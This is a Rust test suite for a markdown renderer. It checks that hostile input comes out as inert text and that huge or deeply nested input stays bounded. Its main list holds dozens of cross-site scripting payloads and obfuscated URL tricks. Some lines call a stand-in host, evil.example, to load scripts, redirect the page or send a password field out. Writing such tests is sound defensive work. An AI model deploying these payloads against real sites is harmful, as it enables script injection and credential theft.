//! Text never becomes markup.

use aios_markdown::{Options, blocks, plain_text, render};
use proptest::prelude::*;

use crate::{markup, page};

/// Each would run a script, load something or break out of its place in a careless renderer.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=password><button>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import url(//evil.example);</style>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)/>",
    "</p></div><script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&#10;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](&#x01;javascript:alert(1))",
    "[a](\u{0}javascript:alert(1))",
    "[a](\u{a0}javascript:alert(1))",
    "[a](java\\script:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](blob:https://example.org/x)",
    "[a](file:///etc/passwd)",
    "[a](https:javascript:alert(1))",
    "[a](/\\evil.example)",
    "[a](https://good.example\\@evil.example)",
    "[a](https://example.org/\"onmouseover=\"alert(1))",
    "[a](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
    "[a](https://example.org '\"><script>alert(1)</script>')",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n[a]: https://example.org/\"><script>",
    "<javascript:alert(1)>",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "http://javascript:alert(1)",
    "![a](javascript:alert(1))",
    "![a](https://evil.example/track.png)",
    "![a](//evil.example/track.png)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](/media/../api/logout)",
    "![\"onerror=\"alert(1)](/media/a.png)",
    "![a](/media/a.png \"\\\" onerror=\\\"alert(1)\")",
    "![<script>alert(1)</script>](/media/a.png)",
    "[![a](https://evil.example/a.png)](https://evil.example)",
    "[a ![b](c) [^n]](https://example.org)\n\n[^n]: x",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "[^a]: <script>alert(1)</script>",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```js\" onclick=\"alert(1)\nx\n```",
    "~~~ <img/src=x/onerror=alert(1)>\nx",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "$</code><script>alert(1)</script>$",
    "$$\\href{javascript:alert(1)}{x}$$",
    ":::execute\n</code><script>alert(1)</script>\n:::",
    "# <script>alert(1)</script> {#id onclick=alert(1)}",
    "| <script>alert(1)</script> | b |\n|---|---|\n| </td></table><script>alert(1)</script> | `|` |",
    "- [x] <script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "a\u{0}b\u{1b}[31mc\u{7f}",
    "[\u{202e}moc.elgoog](https://evil.example/\u{202e}x)",
    "<div\u{2028}onclick=alert(1)>",
    "*<b*onclick=alert(1)>*",
    "[a](<https://example.org/>\"><script>)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

#[test]
fn hostile_text_stays_text() {
    for text in HOSTILE {
        let html = render(text);
        page::check(&html, text);
        // Wherever it stands.
        for around in
            [("> ", ""), ("- ", ""), ("| a |\n|---|\n| ", " |"), ("*", "*"), ("[", "](/x)"), ("![", "](/media/a)")]
        {
            let text = [around.0, text, around.1].concat();
            page::check(&render(&text), &text);
        }
    }
}

#[test]
fn every_pair_of_hostile_texts_stays_text() {
    for first in HOSTILE {
        for second in HOSTILE {
            let text = [first, "\n", second].concat();
            page::check(&render(&text), &text);
        }
    }
}

#[test]
fn raw_html_is_shown_as_it_is_written() {
    assert_eq!(
        render("<details>\n<summary>a</summary>\n\nb <b>c</b>"),
        "<p class=\"raw-html\" dir=\"auto\">&lt;details&gt;<br>&lt;summary&gt;a&lt;/summary&gt;</p>\
         <p dir=\"auto\">b &lt;b&gt;c&lt;/b&gt;</p>"
    );
}

#[test]
fn the_text_of_a_link_cannot_be_shown_in_another_order() {
    let html = render("[\u{202e}moc.elgoog](https://evil.example/\u{202e}x)");
    assert!(!html.contains('\u{202e}'), "{html}");
    assert!(html.contains("title=\"https://evil.example/%E2%80%AEx\""), "{html}");
}

#[test]
fn deep_and_repeated_text_is_rendered_without_exhausting_anything() {
    const MANY: usize = 100_000;
    let items: String = (0..400).map(|depth| "  ".repeat(depth) + "- a\n").collect();
    for text in [
        ">".repeat(MANY),
        "> ".repeat(MANY) + "a",
        "- ".repeat(MANY) + "a",
        "1. ".repeat(MANY) + "a",
        "[".repeat(MANY),
        "[".repeat(MANY) + &"]".repeat(MANY),
        "![".repeat(MANY),
        "![a".repeat(MANY) + &"](/x)".repeat(MANY),
        "[a](".repeat(MANY),
        "[a](<b".repeat(MANY),
        "*a ".repeat(MANY),
        "*a **b ".repeat(MANY) + &"c** d*".repeat(MANY),
        "_".repeat(MANY) + "a",
        "`a``".repeat(MANY),
        "<".repeat(MANY),
        "<!--".repeat(MANY),
        "<a ".repeat(MANY),
        "<![CDATA[".repeat(MANY),
        "&".repeat(MANY),
        "$a ".repeat(MANY),
        "\\(".repeat(MANY),
        "\\(a$\\)".repeat(MANY),
        "\\[".repeat(MANY),
        "${".repeat(MANY),
        "| a |\n|---|---|\n".to_owned() + &"|\n".repeat(MANY),
        "| a ".repeat(MANY) + "\n" + &"|---".repeat(MANY) + "\n" + &"|\n".repeat(MANY),
        "[^a]".repeat(MANY),
        "[a]: b\n".repeat(MANY),
        "[a]".repeat(MANY) + "\n\n[a]: /b",
        "https://a.b/".repeat(MANY),
        "xhttps://a".repeat(MANY),
        "https://a".to_owned() + &")".repeat(MANY),
        "a\n".repeat(MANY),
        "\n".repeat(MANY),
        "#".repeat(MANY),
        "~".repeat(MANY),
        "```\n".repeat(MANY),
        "\u{0}".repeat(MANY),
        "\\".repeat(MANY),
        "\t".repeat(MANY) + "a",
        "```js\n".to_owned() + &"`".repeat(MANY),
        "```rust\n".to_owned() + &"'".repeat(MANY),
        "```c\n".to_owned() + &"/*".repeat(MANY),
        "```json\n".to_owned() + &"\"a\" ".repeat(MANY),
        "```json\n".to_owned() + &"\"\\".repeat(MANY),
        "```html\n".to_owned() + &"<a ".repeat(MANY),
        "```python\n".to_owned() + &"1 ".repeat(MANY),
        "```python\n".to_owned() + &"a\n".repeat(MANY),
        items,
    ] {
        let html = render(&text);
        assert!(html.len() < 64 * text.len() + 1024, "{:?}", &text[..20]);
        let mut depth = 0_usize;
        for (at, _) in html.match_indices('<') {
            let tag = &html[at..];
            if tag.starts_with("</") {
                depth -= 1;
            } else if !["<br", "<hr", "<img", "<input"].iter().any(|void| tag.starts_with(void)) {
                depth += 1;
            }
            assert!(depth < 48);
        }
        if html.len() < 400_000 {
            page::check(&html, &text[..20]);
        }
    }
}

#[test]
fn many_references_to_one_long_address_do_not_make_a_long_page() {
    let text = format!("[a]: https://example.org/{}\n\n", "x".repeat(4_000)) + &"[a]\n\n".repeat(10_000);
    assert!(render(&text).len() < 4_000_000);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1_000, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_rendered_with_listed_tags_only(text in "\\PC{0,200}") {
        page::check(&render(&text), &text);
    }

    #[test]
    fn any_mixture_of_markup_is_rendered_with_listed_tags_only(text in markup::markup()) {
        page::check(&render(&text), &text);
    }

    #[test]
    fn any_code_is_coloured_without_losing_a_character(
        language in prop::sample::select(&["rust", "js", "python", "sh", "sql", "css", "json", "yaml", "html", "diff", "php", "none"][..]),
        code in prop_oneof![markup::markup(), "\\PC{0,100}"],
    ) {
        let code = code.replace('~', "-").replace('\r', "") + "\n";
        let html = blocks(&format!("~~~~~~{language}\n{code}~~~~~~\n"), Options { code_actions: true, ..Options::default() }).concat();
        page::check(&html, &code);
        let shown = html.split("<code").nth(1).and_then(|html| html.split_once('>')).map(|(_, html)| html).unwrap_or_default();
        let shown: String = shown.split('<').map(|part| part.split_once('>').map_or(part, |(_, text)| text)).collect();
        let shown = shown.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&");
        let expected: String =
            code.chars().map(|c| if c.is_ascii_control() && !"\t\n".contains(c) { '\u{fffd}' } else { c }).collect();
        prop_assert_eq!(shown, expected);
    }

    #[test]
    fn a_preview_is_one_short_line(text in markup::markup(), limit in 0_usize..40) {
        let line = plain_text(&text, limit);
        prop_assert!(line.chars().count() <= limit);
        prop_assert!(!line.chars().any(char::is_control));
        prop_assert!(!line.contains("  "));
    }
}
